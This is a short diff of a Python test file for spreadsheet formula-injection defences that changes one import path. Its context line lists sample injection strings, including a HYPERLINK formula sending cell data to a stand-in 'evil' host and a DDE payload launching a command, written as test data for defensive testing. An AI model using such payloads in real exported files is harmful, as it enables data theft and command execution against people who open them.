@@ -7,7 +7,7 @@ import io
 import pandas as pd
 import pytest
 
-from explorer.spreadsheet import neutralize_cell, safe_csv
+from explorer.core.spreadsheet import neutralize_cell, safe_csv
 from tests.ui.conftest import app, make_finished_run, problems
 
 TRIGGERS = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\") ", "+cmd|' /C calc'!A0 ", "-2+3 ", "@SUM(A1:A9) ", "\t=1+1 ",
